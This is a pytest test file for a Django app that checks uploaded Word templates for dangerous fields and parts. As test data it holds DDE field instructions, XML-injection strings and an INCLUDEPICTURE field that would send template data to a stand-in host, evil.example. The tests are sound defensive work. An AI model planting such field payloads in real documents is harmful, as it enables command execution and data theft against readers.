"""What a Word file could fetch or start, by every way there is into one: refused, and named in a sentence."""

import io
import zipfile

import pytest
from django.urls import reverse

from apps.accounts.models import User
from apps.core.models import AuditEvent
from apps.reports.docx.allowed import is_allowed
from apps.reports.docx.checking import forbidden_in_written, template_problems
from apps.reports.docx.word import report_docx
from apps.reports.models import DocxTemplate, Report
from tests import factories
from tests.reports.documents import document
from tests.reports.docx.dangerous import (
    BEGIN,
    BODY,
    ELEMENTS,
    END,
    FIELDS,
    HIDDEN,
    LINK,
    PARTS,
    WORD,
    code,
    complex_field,
    with_paragraph,
    with_part,
)
from tests.reports.docx.making import RELATIONS, part, related, repacked, template, with_footnote
from tests.reports.docx.test_templates import SignIn, written_by


@pytest.mark.parametrize(
    "harmless",
    [
        "PAGE",
        " page \\* MERGEFORMAT ",
        "NUMPAGES  \\# &quot;0&quot;",
        "DATE \\@ &quot;dd/MM/yyyy HH:mm&quot;",
        "TOC \\o &quot;1-3&quot; \\h \\z \\u",
        "STYLEREF &quot;Heading 1&quot;",
        "REF _Ref123 \\h",
        "SEQ Figure \\* ARABIC",
        "DOCPROPERTY Company",
        "HYPERLINK &quot;https://example.com/a?b=c&quot; \\o &quot;a tip&quot;",
        "HYPERLINK \\l &quot;_Toc1&quot;",
    ],
)
def test_a_harmless_field_stays(harmless: str) -> None:
    assert template_problems(with_paragraph(complex_field(harmless))) == []
    assert template_problems(with_paragraph(f'<w:fldSimple w:instr="{harmless}"/>')) == []


@pytest.mark.parametrize("forbidden", FIELDS)
def test_a_field_that_is_not_on_the_list_is_named(forbidden: str) -> None:
    for runs in (
        complex_field(forbidden),
        f'<w:fldSimple w:instr="{forbidden}"/>',
        f"{BEGIN}{code(forbidden)}",
    ):
        (problem,) = template_problems(with_paragraph(runs))
        assert "is none that a template may hold: take it out in Word" in problem
        assert f"({BODY})" in problem
    # One letter a run.
    letters = forbidden.replace("&quot;", '"').replace("&#68;", "D")
    assert template_problems(with_paragraph(complex_field(*letters)))


@pytest.mark.parametrize("runs", HIDDEN.values(), ids=HIDDEN)
def test_no_way_of_writing_hides_a_field(runs: str) -> None:
    problems = template_problems(with_paragraph(runs))
    assert problems
    assert all("is none that a template may hold" in problem for problem in problems)


def test_fields_are_found_in_heads_footnotes_and_comments() -> None:
    head = template("{{ headline }}", header="HERE")
    (name,) = [each for each in ("word/header1.xml", "word/header2.xml") if each in names(head)]
    with_head = repacked(
        head, {name: part(head, name).replace(b"<w:t>HERE</w:t>", b"<w:instrText>DDE a b</w:instrText>")}
    )
    noted = with_footnote(
        template("{{ headline }}"), "x</w:t></w:r><w:r><w:instrText>DDE a b</w:instrText></w:r><w:r><w:t>"
    )
    comments = f'<w:comments xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:comment w:id="1"><w:p>{complex_field("DDE a b")}</w:p></w:comment></w:comments>'
    commented = with_part(
        "word/comments.xml", f"{WORD}.comments+xml", comments.encode(), f"{RELATIONS}/comments"
    )
    for docx, where in ((with_head, name), (noted, "word/footnotes.xml"), (commented, "word/comments.xml")):
        (problem,) = template_problems(docx)
        assert f"“DDE a b” ({where})" in problem


def names(docx: bytes) -> list[str]:
    with zipfile.ZipFile(io.BytesIO(docx)) as package:
        return package.namelist()


@pytest.mark.parametrize("docx", PARTS.values(), ids=PARTS)
def test_no_part_and_no_relation_is_let_in_but_those_on_the_list(docx: bytes) -> None:
    problems = template_problems(docx)
    assert problems
    assert any("ake it out" in each or "Take out" in each or "put pictures" in each for each in problems)


@pytest.mark.parametrize(("what", "docx"), ELEMENTS.items(), ids=ELEMENTS)
def test_an_element_that_fetches_is_named(what: str, docx: bytes) -> None:
    assert any(f"“{what}”" in each and "ake it out" in each for each in template_problems(docx))


def test_an_ordinary_link_stays() -> None:
    for address in ("https://example.com/a?b=c", "http://example.com", "MAILTO:ines@example.com"):
        assert (
            template_problems(
                related(template("{{ headline }}"), LINK.format(RELATIONS, "hyperlink", address))
            )
            == []
        )


def test_what_people_typed_makes_no_field() -> None:
    typed = '</w:t></w:r><w:fldSimple w:instr="DDE a b"/> { DDE a b } ' + "{{ headline }}"
    made = report_docx(
        document(decision={"reason": typed}),
        number=1,
        fingerprint="f",
        template=template("{{ decision_reason }}"),
    )
    assert forbidden_in_written(made) == []
    assert typed in written_by(template("{{ decision_reason }}"), document(decision={"reason": typed}))


@pytest.mark.django_db
def test_a_template_of_before_is_not_handed_on(signed_in: SignIn, carol: User, report: Report) -> None:
    DocxTemplate.objects.create(
        organisation=report.organisation,
        name="own.docx",
        docx=with_paragraph(complex_field("INCLUDEPICTURE &quot;http://evil.example/{{ headline }}&quot;")),
        sha256="0" * 64,
        uploaded_at=factories.NOW,
    )
    browser = signed_in(carol)
    answer = browser.get(reverse("report_docx", args=[report.pk]), follow=True)
    assert answer.redirect_chain == [(reverse("report", args=[report.pk]), 302)]
    assert "INCLUDEPICTURE" in answer.text
    assert "An owner of your organisation can replace the template." in answer.text
    assert not AuditEvent.objects.filter(verb="download_report_docx").exists()


def test_a_tag_in_a_code_is_refused_but_around_a_field_it_stays() -> None:
    split = (
        f"{BEGIN}<w:r><w:t>{{%r if not headline %}}</w:t></w:r>{code('REF ')}<w:r><w:t>{{%r endif %}}</w:t></w:r>"
        f"{code('AUTOTEXT')}{END}"
    )
    assert template_problems(with_paragraph(split))
    around = f"<w:r><w:t>{{%r if headline %}}</w:t></w:r>{complex_field('PAGE')}<w:r><w:t>{{%r endif %}}</w:t></w:r>"
    assert template_problems(with_paragraph(around)) == []
    made = report_docx(document(), number=1, fingerprint="f", template=with_paragraph(around))
    assert b"PAGE" in part(made, BODY)
    assert forbidden_in_written(made) == []


def test_switches_take_one_value_and_names_are_one() -> None:
    assert is_allowed('TOC \\o "1-3" \\t "Own,1"')
    assert not is_allowed("")
    assert not is_allowed('"PAGE"')
    assert not is_allowed("PAGE a b")
    assert not is_allowed('REF "http://evil.example"')
    assert not is_allowed("PAGE \\")
